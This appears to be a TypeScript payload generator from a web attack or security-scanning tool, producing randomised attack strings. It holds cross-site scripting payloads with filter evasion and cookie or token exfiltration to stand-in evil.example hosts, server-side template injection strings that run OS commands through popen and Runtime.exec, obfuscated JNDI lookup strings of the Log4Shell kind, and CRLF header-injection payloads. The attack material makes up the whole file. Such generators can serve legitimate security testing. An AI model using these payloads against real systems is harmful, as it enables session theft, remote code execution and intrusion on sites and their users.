import type { Payload } from '../attack.ts';
import type { Random } from '../random.ts';

const BREAKOUTS = ['', '">', "'>", '"/>', '</title>', '</textarea>', '--></b>', '" x="'];
const TAGS = ['img', 'svg', 'body', 'iframe', 'input', 'video', 'div'];
const EVENTS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onpageshow'];

function script(r: Random): string {
  return r.pick([
    `alert(${r.int(1, 999)})`,
    'alert(document.domain)',
    `alert('${r.hex(4)}')`,
    'alert(document.cookie)',
    `prompt(${r.int(1, 99)})`,
    `confirm(${r.int(1, 99)})`,
    `fetch('//x${r.hex(3)}.evil.example/?c='+document.cookie)`,
    `new Image().src='http://log${r.hex(2)}.evil.example/'+document.cookie`,
    `document.location='https://${r.hex(3)}.evil.example/'+localStorage.getItem('token')`,
  ]);
}

export function scriptPayload(r: Random): Payload {
  const [technique, write] = r.pick(XSS);
  return { technique, text: write(r) };
}

const XSS: readonly (readonly [string, (r: Random) => string])[] = [
  ['script element', (r) => `${r.pick(BREAKOUTS)}<script>${script(r)}</script>`],
  [
    'script with source',
    (r) =>
      `${r.pick(BREAKOUTS)}<script src=${r.pick(['//', 'https://'])}${r.hex(3)}.evil.example/x.js></script>`,
  ],
  [
    'script mixed case',
    (r) => `<ScRiPt${r.pick(['', ' ', '\t', ' type=text/javascript'])}>${script(r)}</sCrIpT>`,
  ],
  ['event handler', (r) => `${r.pick(BREAKOUTS)}<${r.pick(TAGS)} ${r.pick(EVENTS)}=${script(r)}>`],
  [
    'image error',
    (r) => `${r.pick(BREAKOUTS)}<img src=${r.pick(['x', '1', '/n', '""'])} onerror="${script(r)}">`,
  ],
  ['svg load', (r) => `<svg${r.pick([' ', '/', '\n'])}onload=${script(r)}>`],
  [
    'attribute breakout',
    (r) =>
      `${r.hex(2)}" ${r.pick(['onmouseover', 'onfocus', 'onclick'])}="${script(r)}" ${r.pick(['autofocus', 'x'])}="`,
  ],
  [
    'javascript link',
    (r) => `<a href="${r.pick(['javascript:', 'JaVaScRiPt:', 'java\tscript:'])}${script(r)}">${r.hex(3)}</a>`,
  ],
  ['javascript frame', (r) => `<iframe src="javascript:${script(r)}"></iframe>`],
  [
    'entity encoded handler',
    (r) => `<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;${r.int(1, 999)}&#41;">`,
  ],
  ['nested filter evasion', (r) => `<scr<script>ipt>${script(r)}</scr</script>ipt>`],
  ['body handler', (r) => `${r.pick(BREAKOUTS)}<body onload=${script(r)}>`],
];

export function templatePayload(r: Random): Payload {
  const a = r.int(7, 97);
  const b = r.int(7, 97);
  const text = r.pick([
    `{{${a}*${b}}}`,
    `\${${a}*${b}}`,
    `<%= ${a} * ${b} %>`,
    `#{${a}*${b}}`,
    `${r.hex(2)}{{${a}*'${b}'}}`,
    `{{config.items()}}${r.hex(2)}`,
    `{{''.__class__.__mro__[${r.int(1, 2)}].__subclasses__()[${r.int(30, 420)}]}}`,
    `{{request.application.__globals__.__builtins__.__import__('os').popen('${r.pick(['id', 'ls', 'whoami'])} ${r.hex(1)}').read()}}`,
    `\${T(java.lang.Runtime).getRuntime().exec('${r.pick(['id', 'calc', 'touch /tmp/'])}${r.hex(2)}')}`,
    `{% for c in [].__class__.__base__.__subclasses__() %}{{c.__name__}}{% endfor %}${r.hex(1)}`,
    `{{self._TemplateReference__context.${r.pick(['joiner', 'namespace', 'cycler'])}.__init__.__globals__.os.popen('id ${r.hex(1)}').read()}}`,
    `\${class.getResource("${r.hex(2)}").getPath()}`,
    `\${product.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("${r.pick(['id', 'ls'])}${r.hex(1)}")}`,
  ]);
  return {
    technique: 'expression of a server template',
    text,
    alsoFamilies: text.includes('popen') || text.includes('exec(') ? ['command-injection'] : [],
  };
}

export function lookupPayload(r: Random): Payload {
  const target = `${r.hex(5)}.${r.pick(['evil', 'oob', 'cb'])}.example${r.pick(['', ':1389', ':389'])}/${r.token(4)}`;
  const scheme = r.pick(['ldap', 'ldaps', 'rmi', 'dns']);
  const text = r.pick([
    `\${jndi:${scheme}://${target}}`,
    `\${JNDI:${scheme.toUpperCase()}://${target}}`,
    `\${\${lower:j}ndi:${scheme}://${target}}`,
    `\${\${lower:j}\${lower:n}\${lower:d}i:\${lower:${scheme}}://${target}}`,
    `\${\${::-j}\${::-n}\${::-d}\${::-i}:${scheme}://${target}}`,
    `\${\${upper:j}ndi:${scheme}://${target}}`,
    `\${jndi:${scheme}://\${hostName}.${target}}`,
    `\${j\${::-n}di:${scheme}://${target}}`,
  ]);
  return { technique: `lookup over ${scheme}`, text };
}

/** Percent-encoded on the wire: the line break must reach the server raw. */
export function linePayload(r: Random): Payload {
  const name = r.pick(['session', 'sid', 'lang', 'admin', 'track']);
  const end = r.pick(['%0d%0a', '%0D%0A', '%0D%0a']);
  const text = r.pick([
    `${r.hex(2)}${end}Set-Cookie:${r.pick(['%20', ''])}${name}=${r.hex(4)}`,
    `/${r.hex(2)}${end}Location:%20https://${r.hex(3)}.evil.example/`,
    `${r.hex(2)}${end}${end}%3Cscript%3Ealert(${r.int(1, 99)})%3C/script%3E`,
    `en${end}Content-Type:%20text/html${end}X-XSS-Protection:%200${end}${end}%3Ch1%3E${r.hex(3)}`,
    `${r.hex(2)}${end}X-Forwarded-Host:%20${r.hex(3)}.evil.example`,
    `${r.hex(2)}${end}Refresh:%200;url=//${r.hex(3)}.evil.example`,
  ]);
  return {
    technique: 'header after a line break',
    text,
    wire: true,
    alsoFamilies: text.includes('script') ? ['xss'] : [],
  };
}
